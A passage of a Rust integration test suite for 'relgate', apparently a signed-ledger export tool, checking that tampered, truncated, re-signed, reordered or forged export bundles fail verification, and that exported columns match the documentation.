    let tampered = f.path().join("tampered");
    unpack(&bundle, &tampered);
    let lines: Vec<String> = envelopes.lines().map(str::to_owned).collect();
    let mut edited = lines.clone();
    edited[9] =
        String::from_utf8(tamper_envelope(lines[9].as_bytes(), set_decision_pass)).expect("utf8");
    std::fs::write(tampered.join("envelopes.jsonl"), edited.join("\n") + "\n").expect("write");
    let results = run_blocks(&blocks, &tampered);
    for step in [1, 2, 3, 4, 5, 6] {
        assert_ne!(
            results[step].0, 0,
            "step {step} passed on a tampered envelope:\n{}",
            results[step].1
        );
    }
    assert!(results[2].1.contains("bad_signature"), "{}", results[2].1);
    assert!(
        results[3]
            .1
            .contains("record 10: the signature does NOT verify"),
        "{}",
        results[3].1
    );
    assert!(
        results[4].1.contains("record 11: expected seq 11"),
        "{}",
        results[4].1
    );
    assert_eq!(results[0].0, 0, "{results:?}");
    assert!(
        results[5].1.contains("the records' Merkle root is"),
        "{}",
        results[5].1
    );

    // Drop the last envelope: the checksums, relgate, the checkpoint count and the rebuilt
    // CSV catch it (the remaining signatures and chain are fine, so steps 3 and 4 pass).
    let truncated = f.path().join("truncated");
    unpack(&bundle, &truncated);
    std::fs::write(
        truncated.join("envelopes.jsonl"),
        lines[..19].join("\n") + "\n",
    )
    .expect("write");
    let codes: Vec<i32> = run_blocks(&blocks, &truncated)
        .iter()
        .map(|r| r.0)
        .collect();
    assert!(
        codes[1] != 0 && codes[2] != 0 && codes[5] != 0 && codes[6] != 0,
        "{codes:?}"
    );
    assert_eq!((codes[0], codes[3], codes[4]), (0, 0, 0), "{codes:?}");

    // Records dropped from the end, the CHECKPOINT's count edited to match and SHA256SUMS
    // regenerated: the plain-tool steps catch it (step 5: the checkpoint's signature no
    // longer verifies), not only relgate.
    let resum = |dir: &Path| {
        let ok = std::process::Command::new("bash")
            .args(["-c", "sha256sum $(awk '{print $2}' SHA256SUMS) > SHA256SUMS.new && mv SHA256SUMS.new SHA256SUMS"])
            .current_dir(dir)
            .status()
            .expect("sha256sum");
        assert!(ok.success());
    };
    let cut = f.path().join("cut");
    unpack(&bundle, &cut);
    std::fs::write(cut.join("envelopes.jsonl"), lines[..15].join("\n") + "\n").expect("write");
    let checkpoint = std::fs::read_to_string(cut.join("CHECKPOINT")).expect("checkpoint");
    let mut cp_lines: Vec<&str> = checkpoint.split('\n').collect();
    cp_lines[1] = "15";
    std::fs::write(cut.join("CHECKPOINT"), cp_lines.join("\n")).expect("write");
    resum(&cut);
    let results = run_blocks(&blocks, &cut);
    let codes: Vec<i32> = results.iter().map(|r| r.0).collect();
    assert_eq!(
        (codes[0], codes[1], codes[3], codes[4]),
        (0, 0, 0, 0),
        "{codes:?}"
    );
    assert_ne!(codes[5], 0, "{}", results[5].1);
    assert!(
        results[5]
            .1
            .contains("the checkpoint's signature does NOT verify"),
        "{}",
        results[5].1
    );
    assert_ne!(codes[2], 0, "{}", results[2].1);
    // The count kept as signed: the count check and the Merkle root say what is missing.
    let kept = f.path().join("kept");
    unpack(&bundle, &kept);
    std::fs::write(kept.join("envelopes.jsonl"), lines[..15].join("\n") + "\n").expect("write");
    resum(&kept);
    let results = run_blocks(&blocks, &kept);
    assert!(
        results[5]
            .1
            .contains("the checkpoint covers 20 records, the bundle has 15"),
        "{}",
        results[5].1
    );
    // A record re-signed by a key the bundle smuggles in (its file named by its own id):
    // no step trusts a key that VERIFY.md does not pin.
    let smuggled = f.path().join("smuggled");
    unpack(&bundle, &smuggled);
    let mallory = Signer::from_seed([9; 32]);
    let mallory_id = mallory.key_id().to_string();
    std::fs::write(
        smuggled.join(format!("keys/{mallory_id}.pem")),
        public_key_pem(&mallory.verifying_key()),
    )
    .expect("write key");
    let mut resigned = lines.clone();
    let envelope: serde_json::Value = serde_json::from_str(&lines[9]).expect("json");
    let payload = B64
        .decode(envelope["payload"].as_str().expect("payload"))
        .expect("base64");
    let mut statement: serde_json::Value = serde_json::from_slice(&payload).expect("statement");
    set_decision_pass(&mut statement);
    let forged = relgate::record::dsse::sign_payload(
        &serde_json::to_vec(&statement).expect("json"),
        &mallory,
    );
    resigned[9] = serde_json::to_string(&forged).expect("json");
    std::fs::write(smuggled.join("envelopes.jsonl"), resigned.join("\n") + "\n").expect("write");
    resum(&smuggled);
    let results = run_blocks(&blocks, &smuggled);
    assert_eq!(results[0].0, 0, "{}", results[0].1);
    for step in [2, 3, 4, 5, 6] {
        assert_ne!(
            results[step].0, 0,
            "step {step} trusted a smuggled key:\n{}",
            results[step].1
        );
    }
    assert!(
        results[3].1.contains(&format!(
            "record 10: signed by key '{mallory_id}', which is not a pinned key id"
        )),
        "{}",
        results[3].1
    );

    // Someone who can rewrite the bundle edits a CSV row and regenerates SHA256SUMS: the
    // signed records are untouched (steps 0 to 5 pass), the rebuilt CSV differs (step 6).
    let forged = f.path().join("forged");
    unpack(&bundle, &forged);
    let csv = std::fs::read_to_string(forged.join("export.csv")).expect("csv");
    let forged_csv = csv.replacen(",fail,", ",pass,", 1);
    assert_ne!(csv, forged_csv, "the bundle has a failing row to forge");
    std::fs::write(forged.join("export.csv"), forged_csv).expect("write");
    let resum = std::process::Command::new("bash")
        .args(["-c", "sha256sum $(awk '{print $2}' SHA256SUMS) > SHA256SUMS.new && mv SHA256SUMS.new SHA256SUMS"])
        .current_dir(&forged)
        .status()
        .expect("sha256sum");
    assert!(resum.success());
    let results = run_blocks(&blocks, &forged);
    for (step, (code, log)) in results.iter().enumerate().take(6) {
        assert_eq!(*code, 0, "step {step} on a forged CSV:\n{log}");
    }
    assert_ne!(
        results[6].0, 0,
        "the rebuilt CSV must differ: {}",
        results[6].1
    );

    // A key file not named by its own key id (an attacker's key under the trusted id) fails
    // step 0.
    let renamed = f.path().join("renamed");
    unpack(&bundle, &renamed);
    let other_key = f.path().join("other-key");
    run_relgate(&["keygen".into(), "--out".into(), s(&other_key)], f.path()).exit(0);
    std::fs::copy(
        other_key.join("relgate-signing.pub.pem"),
        renamed.join(&key_file),
    )
    .expect("swap key");
    let results = run_blocks(&blocks, &renamed);
    assert_ne!(results[0].0, 0, "{}", results[0].1);
    assert!(
        results[0].1.contains("not its file name"),
        "{}",
        results[0].1
    );

    // Swapping two envelopes is caught by relgate (line n must hold record n).
    let swapped = f.path().join("swapped");
    unpack(&bundle, &swapped);
    let mut reordered = lines.clone();
    reordered.swap(3, 4);
    std::fs::write(swapped.join("envelopes.jsonl"), reordered.join("\n") + "\n").expect("write");
    let run = run_relgate(
        &[
            "verify".into(),
            "--envelopes".into(),
            "envelopes.jsonl".into(),
            "--keys".into(),
            "keys".into(),
        ],
        &swapped,
    );
    run.exit(1);
    assert!(run.stdout.contains("file_seq_mismatch"), "{}", run.stdout);
}

#[test]
fn bundle_of_a_tampered_ledger_says_so() {
    let f = Fixture::generated(Backend::Dir, 8);
    let file = f.record_file(3);
    let bytes = std::fs::read(&file).expect("read");
    std::fs::write(&file, tamper_envelope(&bytes, set_decision_pass)).expect("write");
    let bundle = f.path().join("b.tar.gz");
    f.export(&["--bundle", &s(&bundle), "--format", "jsonl"])
        .exit(1);
    let members = bundle_members(&bundle);
    let md = members
        .iter()
        .find(|m| m.0 == "VERIFY.md")
        .map(|m| String::from_utf8(m.5.clone()).expect("utf8"))
        .expect("VERIFY.md");
    assert!(md.contains("**TAMPERED**"), "{md}");
    let report = members
        .iter()
        .find(|m| m.0 == "verification.json")
        .map(|m| serde_json::from_slice::<serde_json::Value>(&m.5).expect("json"))
        .expect("verification.json");
    assert_eq!(report["status"], "tampered");
    let csv = members
        .iter()
        .find(|m| m.0 == "export.csv")
        .map(|m| String::from_utf8(m.5.clone()).expect("utf8"))
        .expect("export.csv");
    let flags: Vec<String> = parse_csv(&csv)
        .1
        .iter()
        .map(|r| r[VERIFIED].clone())
        .collect();
    assert_eq!(
        flags,
        ["true", "true", "false", "true", "true", "true", "true", "true"]
    );
}

// ---------------------------------------------------------------------------------------------
// Reading a verified ledger again
// ---------------------------------------------------------------------------------------------

/// A record edited after verification but before the export reads it is caught by the
/// payload hash kept from verification: `changed_while_reading`, that record unverified.
#[test]
fn a_record_changed_between_verification_and_export_is_caught() {
    use relgate::record::ledger::LedgerSource;
    use relgate::record::verify::{
        NoProgress, ProblemKind, VerifiedLedger, VerifyOptions, VerifyStatus,
    };
    let f = Fixture::generated(Backend::Dir, 10);
    let mut keys = relgate::record::keys::TrustedKeys::new();
    keys.insert(gen::signer().verifying_key());
    let mut ledger = VerifiedLedger::verify(
        &LedgerSource::Dir(f.path().join("ledger")),
        &keys,
        None,
        &VerifyOptions::default(),
        &NoProgress,
    );
    assert_eq!(ledger.report().status, VerifyStatus::Intact);
    assert_eq!(ledger.record_files(), 10);
    let file = f.record_file(4);
    let bytes = std::fs::read(&file).expect("read");
    let edited = tamper_envelope(&bytes, set_decision_pass);
    assert_ne!(
        serde_json::from_slice::<serde_json::Value>(&bytes).expect("json")["payload"],
        serde_json::from_slice::<serde_json::Value>(&edited).expect("json")["payload"]
    );
    std::fs::write(&file, edited).expect("write");

    let mut seen: Vec<(Option<u64>, bool)> = Vec::new();
    ledger
        .read_records(
            |r| (r.seq, r.verified, r.payload.is_some()),
            |(seq, verified, has_payload)| {
                assert!(has_payload);
                seen.push((seq, verified));
                Ok::<(), ()>(())
            },
            &NoProgress,
        )
        .expect("read");
    let want: Vec<(Option<u64>, bool)> = (1..=10).map(|s| (Some(s), s != 4)).collect();
    assert_eq!(seen, want);
    let report = ledger.report();
    assert_eq!(report.status, VerifyStatus::Tampered);
    let changed: Vec<_> = report
        .problems_of(ProblemKind::ChangedWhileReading)
        .collect();
    assert_eq!(changed.len(), 1, "{:?}", report.problems);
    assert_eq!(changed[0].seq(), Some(4));
}

/// A run that cannot verify (a junk --checkpoint) or cannot write its bundle exits 2 and
/// leaves an earlier export at --output as it was.
#[test]
fn failed_exports_keep_the_previous_output() {
    let f = Fixture::generated(Backend::Dir, 5);
    let out = f.path().join("o.csv");
    std::fs::write(&out, "OLD\n").expect("write");
    let junk = f.path().join("junk.checkpoint");
    std::fs::write(&junk, "not a checkpoint\n").expect("write");
    f.export(&["--checkpoint", &s(&junk), "--output", &s(&out)])
        .exit(2)
        .stderr_has("nothing exported");
    assert_eq!(std::fs::read_to_string(&out).expect("read"), "OLD\n");

    let dir = f.path().join("bundle-is-a-dir");
    std::fs::create_dir(&dir).expect("mkdir");
    f.export(&["--output", &s(&out), "--bundle", &s(&dir)])
        .exit(2)
        .stderr_has("cannot write the bundle");
    assert_eq!(std::fs::read_to_string(&out).expect("read"), "OLD\n");
}

/// A filter that matches nothing is not an error, but it is said.
#[test]
fn a_filter_matching_nothing_warns() {
    let f = Fixture::generated(Backend::Dir, 5);
    let run = f.export(&["--service", "Support-Bot"]);
    run.exit(0).stderr_has("no record matched the filter");
    assert_eq!(parse_csv(&run.stdout).1.len(), 0);
}

// ---------------------------------------------------------------------------------------------
// The documented columns
// ---------------------------------------------------------------------------------------------

/// The columns docs/export.md lists, in order: the backticked names in the first cell of each
/// row of the table under `## Rows` (a cell may name several, `service`, `name`, …).
fn documented_columns() -> Vec<String> {
    let doc = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/export.md"))
        .expect("docs/export.md");
    let section = doc
        .split("\n## ")
        .find(|s| s.starts_with("Rows\n"))
        .expect("docs/export.md has a `## Rows` section");
    let mut columns = Vec::new();
    for line in section.lines().filter(|l| l.starts_with("| `")) {
        let cell = line.split('|').nth(1).expect("first cell");
        // Every other piece between backticks is a name: "`a`, `b`" splits to ["", a, ", ", b, ""].
        columns.extend(cell.split('`').skip(1).step_by(2).map(str::to_owned));
    }
    assert!(!columns.is_empty(), "no column table under ## Rows");
    columns
}

/// docs/export.md lists the columns the export writes, in the order it writes them: the CSV
/// header, the JSONL keys of every line, the library's column list, and the Parquet dataset of
/// `relgate collect` (schemas/collect.schema.json: `repo`, then the same columns).
#[test]
fn docs_list_the_columns_the_export_writes_in_order() {
    let documented = documented_columns();
    let f = Fixture::generated(Backend::Dir, 3);
    let csv_run = f.export(&["--format", "csv"]);
    csv_run.exit(0);
    let (header, rows) = parse_csv(&csv_run.stdout);
    assert_eq!(rows.len(), 3);
    assert_eq!(header, documented, "CSV header vs docs/export.md ## Rows");
    let jsonl_run = f.export(&["--format", "jsonl"]);
    jsonl_run.exit(0);
    let lines = parse_jsonl(&jsonl_run.stdout);
    assert_eq!(lines.len(), 3);
    for line in &lines {
        let keys: Vec<&String> = line.as_object().expect("object").keys().collect();
        assert_eq!(
            keys,
            documented.iter().collect::<Vec<_>>(),
            "JSONL keys vs docs/export.md"
        );
    }
    assert_eq!(relgate::export::ExportRow::COLUMNS.as_slice(), documented);
    assert_eq!(COLUMNS.as_slice(), documented, "this file's COLUMNS");

    let schema: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR")).join("schemas/collect.schema.json"),
        )
        .expect("schemas/collect.schema.json"),
    )
    .expect("schema JSON");
    let parquet: Vec<&str> = schema["columns"]
        .as_array()
        .expect("columns")
        .iter()
        .map(|c| c["name"].as_str().expect("name"))
        .collect();
    assert_eq!(parquet.first(), Some(&"repo"), "collect adds `repo` first");
    assert_eq!(
        parquet[1..],
        documented,
        "collect.schema.json columns after `repo`"
    );
}
